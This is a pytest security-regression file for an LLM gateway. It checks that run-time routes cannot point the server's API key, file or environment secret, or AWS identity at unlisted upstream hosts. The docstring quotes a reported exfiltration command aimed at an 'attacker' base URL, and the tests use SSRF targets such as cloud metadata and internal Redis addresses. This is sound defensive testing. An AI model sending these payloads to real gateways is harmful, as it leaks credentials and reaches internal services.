"""An admin key cannot make the server send its own secrets, or its requests, where the operator did not say.

The attack of the report: ``routes create exfil --config openai_api_key=/path/on/server
--config openai_api_base=http://attacker/v1``, then a query; the attacker's host received the file's
content as a Bearer token. Here the "attacker" is a second fake upstream the file does not name.
"""

from __future__ import annotations

import asyncio
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from gateway_server.app import create_app
from gateway_server.config import load_config, parse_config, parse_route
from gateway_server.errors import ConfigError
from gateway_server.testing import FakeOpenAI, serve_in_thread
from gateway_server.trust import PUBLIC_UPSTREAM_HOSTS, UpstreamHosts

SERVER_KEY = "sk-server-held-SENTINEL-5555"
ROUTES = "/api/2.0/gateway/routes/"
CHAT = {"messages": [{"role": "user", "content": "hi"}]}


@pytest.fixture(scope="module")
def attacker() -> Iterator[FakeOpenAI]:
    with FakeOpenAI().serve() as fake:
        yield fake


@pytest.fixture
def key_file(tmp_path: Path) -> Path:
    path = tmp_path / "openai_key"
    path.write_text(SERVER_KEY + "\n")
    return path


def _config(fake: FakeOpenAI, key_file: Path, server: str = "") -> str:
    return f"""\
credentials:
  openai-prod: {{provider: openai, config: {{openai_api_key: {key_file}, openai_api_base: '{fake.api_base}'}}}}
routes:
  - name: chat
    route_type: llm/v1/chat
    model: {{provider: openai, name: gpt-4o-mini, credentials: openai-prod}}
{server}"""


@pytest.fixture
def gateway(
    fake_openai: FakeOpenAI, attacker: FakeOpenAI, key_file: Path, tmp_config: Callable[..., Path]
) -> Iterator[httpx.Client]:
    attacker.reset()
    app = create_app(load_config(tmp_config(_config(fake_openai, key_file))))
    app.state.auth.allow_unauthenticated_admin = True  # the worst case: anyone is an admin
    with serve_in_thread(app) as server, httpx.Client(base_url=server.url, timeout=10) as client:
        yield client


def _route(name: str, **model: Any) -> dict[str, Any]:
    return {"name": name, "route_type": "llm/v1/chat", "model": {"provider": "openai", "name": "m", **model}}


def _refused(response: httpx.Response, field: str) -> str:
    assert response.status_code == 400, response.text
    error = response.json()["error"]
    assert error["type"] == "invalid_config"
    assert [issue["field"] for issue in error["issues"]] == [field]
    assert SERVER_KEY not in response.text
    return str(error["message"])


def test_file_route_uses_its_credential(gateway: httpx.Client, fake_openai: FakeOpenAI) -> None:
    assert gateway.post("/gateway/chat/invocations", json=CHAT).status_code == 200
    assert fake_openai.last_request.headers["authorization"] == f"Bearer {SERVER_KEY}"


def test_exfiltration_through_a_path_or_an_env_reference_is_refused(
    gateway: httpx.Client, attacker: FakeOpenAI, key_file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GW_TEST_SERVER_SECRET", SERVER_KEY)
    for key in (str(key_file), "$GW_TEST_SERVER_SECRET", "${GW_TEST_SERVER_SECRET}"):
        body = _route("exfil", config={"openai_api_key": key, "openai_api_base": attacker.api_base})
        message = _refused(gateway.post(ROUTES, json=body), "model.config.openai_api_key")
        assert "cannot use the server's" in message
    assert gateway.get(f"{ROUTES}exfil").status_code == 404
    assert attacker.requests == []


def test_a_key_file_named_without_a_path_prefix_is_refused_too(
    gateway: httpx.Client, key_file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(key_file.parent)  # 'openai_key' names a file the server would read (MLflow's rule)
    body = _route("exfil", config={"openai_api_key": "openai_key"})
    assert "files" in _refused(gateway.post(ROUTES, json=body), "model.config.openai_api_key")


def test_unlisted_upstream_hosts_are_refused(gateway: httpx.Client, attacker: FakeOpenAI) -> None:
    for base in (
        attacker.api_base,
        "http://169.254.169.254/latest",
        "http://127.0.0.1:6379/v1",
        "http://intranet/v1",
    ):
        body = _route("ssrf", config={"openai_api_key": "sk-callers-own", "openai_api_base": base})
        assert "is not allowed for routes created at run time" in _refused(
            gateway.post(ROUTES, json=body), "model.config.openai_api_base"
        )
    assert attacker.requests == []


def test_a_route_naming_a_credential_cannot_move_it(gateway: httpx.Client, attacker: FakeOpenAI) -> None:
    body = _route("moved", credentials="openai-prod", config={"openai_api_base": attacker.api_base})
    assert "bound to its base URL" in _refused(
        gateway.post(ROUTES, json=body), "model.config.openai_api_base"
    )
    body = _route("rekeyed", credentials="openai-prod", config={"openai_api_key": "sk-other"})
    _refused(gateway.post(ROUTES, json=body), "model.config.openai_api_key")
    typo = gateway.post(ROUTES, json=_route("typo", credentials="openai-prd"))
    assert "did you mean 'openai-prod'?" in _refused(typo, "model.credentials")
    other = gateway.post(
        ROUTES,
        json={
            **_route("x", credentials="openai-prod"),
            "model": {"provider": "anthropic", "name": "c", "credentials": "openai-prod"},
        },
    )
    _refused(other, "model.provider")
    assert attacker.requests == []


def test_a_run_time_route_naming_a_credential_serves(gateway: httpx.Client, fake_openai: FakeOpenAI) -> None:
    created = gateway.post(
        ROUTES, json=_route("chat2", credentials="openai-prod", config={"openai_organization": "org-1"})
    )
    assert created.status_code == 200, created.text
    assert SERVER_KEY not in created.text
    assert gateway.post("/gateway/chat2/invocations", json=CHAT).status_code == 200
    request = fake_openai.last_request
    assert request.headers["authorization"] == f"Bearer {SERVER_KEY}"
    assert request.headers["openai-organization"] == "org-1"


def test_a_literal_key_reaches_hosts_the_file_names(gateway: httpx.Client, fake_openai: FakeOpenAI) -> None:
    body = _route(
        "own-key", config={"openai_api_key": "sk-callers-own", "openai_api_base": fake_openai.api_base}
    )
    assert gateway.post(ROUTES, json=body).status_code == 200
    assert gateway.post("/gateway/own-key/invocations", json=CHAT).status_code == 200
    assert fake_openai.last_request.headers["authorization"] == "Bearer sk-callers-own"


def test_the_server_setting_widens_the_hosts(
    fake_openai: FakeOpenAI, attacker: FakeOpenAI, key_file: Path, tmp_config: Callable[..., Path]
) -> None:
    port = attacker.api_base.split(":")[2].split("/")[0]
    text = _config(fake_openai, key_file, f"server:\n  allowed_upstream_hosts: ['127.0.0.1:{port}']\n")
    config = load_config(tmp_config(text))
    body = _route("lab", config={"openai_api_key": "sk-own", "openai_api_base": attacker.api_base})
    assert parse_route(body, base=config).name == "lab"
    other = _route("lab", config={"openai_api_key": "sk-own", "openai_api_base": "http://127.0.0.1:1/v1"})
    with pytest.raises(ConfigError, match="not allowed"):
        parse_route(other, base=config)


def test_bedrock_without_keys_would_sign_as_the_server(gateway: httpx.Client) -> None:
    body = {
        "name": "aws",
        "route_type": "llm/v1/chat",
        "model": {"provider": "bedrock", "name": "m", "config": {"aws_config": {"aws_region": "us-east-1"}}},
    }
    assert "server's own identity" in _refused(gateway.post(ROUTES, json=body), "model.config.aws_config")
    role = {
        **body,
        "model": {
            **body["model"],
            "config": {"aws_config": {"aws_region": "us-east-1", "aws_role_arn": "arn:aws:iam::1:role/x"}},
        },
    }
    _refused(gateway.post(ROUTES, json=role), "model.config.aws_config.aws_role_arn")


def test_both_python_clients_and_the_cli_pass_credentials(
    gateway: httpx.Client, fake_openai: FakeOpenAI
) -> None:
    from typer.testing import CliRunner

    import gatewayctl
    from gatewayctl.cli.app import app

    base = str(gateway.base_url).rstrip("/")
    model = {"provider": "openai", "name": "m", "credentials": "openai-prod"}
    with gatewayctl.GatewayClient(base) as client:
        assert client.create_route("sync", "llm/v1/chat", model).name == "sync"
        with pytest.raises(gatewayctl.ConfigError) as refused:
            client.create_route("bad", "llm/v1/chat", {**model, "config": {"openai_api_base": "http://x/v1"}})
        assert refused.value.issues[0].field == "model.config.openai_api_base"

    async def create_async() -> str:
        async with gatewayctl.AsyncGatewayClient(base) as client:
            return (await client.create_route("async", "llm/v1/chat", model)).name

    assert asyncio.run(create_async()) == "async"
    result = CliRunner().invoke(
        app,
        [
            "routes",
            "create",
            "cli",
            "--route-type",
            "llm/v1/chat",
            "--provider",
            "openai",
            "--model",
            "m",
            "--credentials",
            "openai-prod",
            "--gateway-uri",
            base,
        ],
    )
    assert result.exit_code == 0, result.output
    refused_cli = CliRunner().invoke(
        app,
        [
            "routes",
            "create",
            "cli2",
            "--route-type",
            "llm/v1/chat",
            "--provider",
            "openai",
            "--model",
            "m",
            "--config",
            "openai_api_key=$OPENAI_API_KEY",
            "--gateway-uri",
            base,
        ],
    )
    assert refused_cli.exit_code == 3 and "cannot use the server's environment" in refused_cli.output
    for name in ("sync", "async", "cli"):
        assert gateway.post(f"/gateway/{name}/invocations", json=CHAT).status_code == 200


def test_default_hosts_cover_every_hosted_provider() -> None:
    from gateway_server.providers.catalog import CATALOG

    hosts = UpstreamHosts()
    for spec in CATALOG.values() if isinstance(CATALOG, dict) else CATALOG:
        default = spec.default_base
        if not default or spec.base_field is None or "{" in default:
            continue  # no default, in-process, or one per region (checked below)
        if default.startswith("https://"):
            assert hosts.allows(default), (spec.name, default)
        else:  # local servers (vLLM, Ollama...): not public endpoints
            assert not hosts.allows(default), (spec.name, default)
    assert hosts.allows("https://bedrock-runtime.eu-west-1.amazonaws.com")
    assert hosts.allows("https://myres.openai.azure.com/openai")
    assert not hosts.allows("https://api.openai.com:8443/v1")  # a listed host, another port
    assert not hosts.allows("http://api.openai.com.attacker.io/v1")
    assert "api.openai.com" in PUBLIC_UPSTREAM_HOSTS


def test_file_routes_keep_every_reference_form(fake_openai: FakeOpenAI, key_file: Path) -> None:
    # The operator's file may read the environment and files, and reach any host.
    config = parse_config(
        f"""\
routes:
  - name: local
    route_type: llm/v1/chat
    model: {{provider: openai, name: m, config: {{openai_api_key: {key_file}, openai_api_base: 'http://10.1.2.3:9/v1'}}}}
"""
    )
    assert config.routes[0].model.config.openai_api_key.get() == SERVER_KEY  # type: ignore[union-attr]
